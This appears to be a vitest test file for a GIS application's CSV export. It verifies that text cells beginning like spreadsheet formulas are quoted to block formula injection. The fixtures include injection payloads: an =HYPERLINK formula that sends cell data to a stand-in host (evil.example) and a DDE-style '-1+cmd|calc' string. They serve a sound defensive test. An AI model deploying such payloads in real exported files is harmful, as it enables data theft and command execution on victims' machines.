// CSV exports are opened in spreadsheets: a text cell that starts like a formula (= + - @, TAB, CR) goes out with a
// leading ' so the spreadsheet shows it instead of running it; numbers and the other formats keep their value, and
// our own importer takes the ' off again, so re-importing our export changes nothing.
import { beforeAll, describe, expect, it } from 'vitest';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { Core } from '../../electron/core/core.ts';
import { runImport } from '../../electron/core/gis/importer.ts';
import { exportToFile } from '../../electron/core/gis/exporter.ts';
import { gisBytes } from '../../electron/core/gis/write.ts';
import { smallDbCopy } from '../helpers.ts';

const dir = mkdtempSync(path.join(os.tmpdir(), 'cityops-gis-csv-'));
const f = (name: string) => path.join(dir, name);
let core: Core;
beforeAll(() => {
  core = new Core({ dbPath: smallDbCopy() });
  return () => core.close();
});

/** Rows of a CSV file by column name. */
const rowsOf = (text: string) => parseCsv(text, { columns: true, bom: true }) as Record<string, string>[];

const NOTES = ['=HYPERLINK("http://evil.example/?d="&A1,"详情")', '+1-2', '-x', '@SUM(A1:A9)', "'=already quoted", '-12.5', '普通备注'];

describe('CSV formula injection', () => {
  let codes: string[];
  beforeAll(() => {
    // Point components get notes that a spreadsheet would run, through a GeoJSON import (values kept as given).
    const points = [...core.app.edits.allCurrent().values()].filter((c) => !c.rec.geometry).slice(0, NOTES.length);
    codes = points.map((c) => c.rec.code);
    const fc = {
      type: 'FeatureCollection',
      features: points.map((c, i) => ({
        type: 'Feature',
        properties: { ObjID: c.rec.code, Note: NOTES[i] },
        geometry: { type: 'Point', coordinates: [c.rec.lon, c.rec.lat] },
      })),
    };
    writeFileSync(f('notes.geojson'), JSON.stringify(fc));
    const r = runImport(core.app, f('notes.geojson'), 'notes.geojson', { layer: 'components', actor: 'test' });
    expect(r.counts).toMatchObject({ update: NOTES.length, error: 0 });
  });

  it('exports text cells that start like a formula with a leading quote, only in CSV', () => {
    exportToFile(core.app, { layer: 'components', format: 'csv' }, f('out.csv'));
    const byCode = new Map(rowsOf(readFileSync(f('out.csv'), 'utf8')).map((r) => [r.ObjID, r]));
    expect(codes.map((c) => byCode.get(c)!.Note)).toEqual([
      `'=HYPERLINK("http://evil.example/?d="&A1,"详情")`,
      "'+1-2",
      "'-x",
      "'@SUM(A1:A9)",
      "''=already quoted",
      '-12.5',
      '普通备注',
    ]);
    exportToFile(core.app, { layer: 'components', format: 'geojson' }, f('out.geojson'));
    const doc = JSON.parse(readFileSync(f('out.geojson'), 'utf8')) as { features: { properties: { ObjID: string; Note: string } }[] };
    const notes = new Map(doc.features.map((x) => [x.properties.ObjID, x.properties.Note]));
    expect(codes.map((c) => notes.get(c))).toEqual(NOTES);
  });

  it('re-imports its own CSV export as unchanged, and a real re-import writes nothing', () => {
    exportToFile(core.app, { layer: 'components', format: 'csv' }, f('again.csv'));
    const total = core.info().components;
    const dry = runImport(core.app, f('again.csv'), 'again.csv', { layer: 'components', actor: 'test', dryRun: true });
    expect(dry.counts).toMatchObject({ unchanged: total, add: 0, update: 0, error: 0 });
    expect(runImport(core.app, f('again.csv'), 'again.csv', { layer: 'components', actor: 'test' }).commitId).toBeNull();
    expect(codes.map((c) => core.app.edits.current(c)!.rec.note)).toEqual(NOTES);
  });

  it("takes one leading ' off a CSV cell before = + - @ (how spreadsheets and our export quote them), and only then", () => {
    const c = core.app.edits.current(codes[0])!.rec;
    writeFileSync(f('quoted.csv'), `ObjID,Note,lon,lat\r\n${c.code},'=1+1,${c.lon},${c.lat}\r\n`);
    runImport(core.app, f('quoted.csv'), 'quoted.csv', { layer: 'components', actor: 'test' });
    expect(core.app.edits.current(c.code)!.rec.note).toBe('=1+1');
    writeFileSync(f('plain-quote.csv'), `ObjID,Note,lon,lat\r\n${c.code},'tis so,${c.lon},${c.lat}\r\n`);
    runImport(core.app, f('plain-quote.csv'), 'plain-quote.csv', { layer: 'components', actor: 'test' });
    expect(core.app.edits.current(c.code)!.rec.note).toBe("'tis so");
  });

  it('quotes text cells only: numbers, negative ones included, go out as they are', () => {
    const text = gisBytes('csv', {
      name: 't',
      crs: 'EPSG:4490',
      columns: ['n', 's'],
      features: [
        { geometry: { type: 'Point', coordinates: [119.92, 32.46] }, values: [-12.5, '-3'] },
        { geometry: { type: 'Point', coordinates: [119.92, 32.46] }, values: [3, '\tcmd'] },
        { geometry: { type: 'Point', coordinates: [119.92, 32.46] }, values: [0, '\rcmd'] },
        { geometry: { type: 'Point', coordinates: [119.92, 32.46] }, values: [null, '-1+cmd|calc'] },
      ],
    }).toString('utf8');
    expect(rowsOf(text).map((r) => [r.n, r.s])).toEqual([
      ['-12.5', '-3'],
      ['3', "'\tcmd"],
      ['0', "'\rcmd"],
      ['', "'-1+cmd|calc"],
    ]);
  });
});
